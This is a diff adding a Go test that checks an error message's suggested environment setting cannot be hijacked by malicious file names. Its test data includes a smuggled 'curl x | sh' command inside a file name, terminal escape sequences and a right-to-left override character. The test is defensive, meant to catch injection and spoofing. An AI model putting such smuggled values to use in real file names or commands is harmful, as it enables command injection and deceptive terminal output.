@@ -28,6 +28,14 @@ func testHarmlessAdvice(t *testing.T, _ spec.G, it spec.S) {
 		Expect(config.Harmless.Match(path, "share/a b")).NotTo(BeEmpty())
 	})
 
+	it("prints no name that a terminal or a shell would take for a command", func() {
+		for _, file := range []string{"share/'; curl x | sh; '", "bin/\x1b[2Kall is well\r", "lib/\u202egpj"} {
+			err := explain(&closure.BlockedError{Reasons: []closure.Reason{{Path: path, File: file, Kind: relocate.Opaque, Detail: file}}})
+			Expect(err).NotTo(MatchError(MatchRegexp(`BP_NIX_HARMLESS='[^']*[^' ]*;`)), file)
+			Expect(err).NotTo(MatchError(MatchRegexp("[\\x1b\\r\\x{202e}]")), file)
+		}
+	})
+
 	it("prints none where nothing can be overruled", func() {
 		err := explain(&closure.BlockedError{Reasons: []closure.Reason{{Path: path, Kind: relocate.Ambiguous}}})
 		Expect(err).NotTo(MatchError(ContainSubstring("BP_NIX_HARMLESS")))
